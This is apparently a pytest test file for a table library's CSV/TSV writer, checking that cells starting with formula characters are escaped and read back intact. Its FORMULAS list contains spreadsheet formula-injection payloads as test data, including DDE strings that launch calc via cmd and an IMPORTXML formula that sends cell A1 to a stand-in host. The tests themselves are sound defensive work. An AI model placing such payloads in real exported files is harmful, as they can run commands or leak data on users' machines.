from __future__ import annotations

import csv

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from rarefind.features.cells.number_word_or_gap import read_word, safe_word
from rarefind.records.formats.by_ending import read_table, write_table
from rarefind.records.table import Table, word_array

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x","y")',
    '=IMPORTXML(CONCAT("http://x?v=",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "- 1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\tplain",
    "\r=1+1",
    "\rplain",
    "\n=1+1",
    "\0=1+1",
    "\0",
    "=1+1\r\n=2",
    "==1",
    "=\t1",
    "+",
    "-",
    "@",
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff201",
    '="a",b;c',
    "-x",
]
STARTS = tuple("=+-@\t\r\n\0")


@pytest.mark.parametrize("ending", [".csv", ".tsv"])
def test_no_formula_survives_in_a_sheet_and_all_come_back(tmp_path, ending):
    table = Table({"=name": word_array(FORMULAS), "n": np.arange(len(FORMULAS)) - 5.5}, "t")
    path = tmp_path / f"t{ending}"
    write_table(table, path)
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file, delimiter="," if ending == ".csv" else "\t"))
    assert rows[0] == ["'=name", "n"]
    for name, number in rows[1:]:
        assert not name.startswith(STARTS)
        float(number)  # plain numbers, negative ones too, are no formulas
    again = read_table(path)
    assert again.column("=name").tolist() == FORMULAS
    assert again.column("n").tolist() == table.column("n").tolist()
    second = tmp_path / f"second{ending}"
    write_table(again, second)  # what was read is as safe as what was made
    assert second.read_bytes() == path.read_bytes()


def test_raw_cells_are_left_as_they_are(tmp_path):
    path = tmp_path / "t.csv"
    write_table(Table({"a": word_array(["=1+1", "x"])}, "t"), path, raw=True)
    assert path.read_text() == "a\n=1+1\nx\n"


@given(st.text())
def test_every_word_is_read_back(word):
    assert read_word(safe_word(word)) == word


@given(st.text(st.sampled_from("'=+-@\t\r\n\0 naNA1.e")))
def test_every_strange_word_is_read_back_and_safe(word):
    written = safe_word(word)
    assert read_word(written) == word
    if written.startswith(STARTS):
        float(written)


def test_cells_of_other_programs_are_made_safe_and_nothing_else_is_changed(tmp_path):
    path = tmp_path / "t.csv"
    text = 'a,b, c\n=1+1,1.50, x\n"\tz",-2,NA\nplain,+3," y "\n'
    path.write_text(text, newline="")
    table = read_table(path)
    assert table.column("a").tolist() == ["=1+1", "z", "plain"]
    assert table.column("c").tolist() == ["x", None, "y"]
    out = tmp_path / "out.csv"
    write_table(table, out)
    assert out.read_bytes().decode() == ("a,b,c\r\n'=1+1,1.50, x\r\nz,-2,NA\r\nplain,+3, y \r\n")
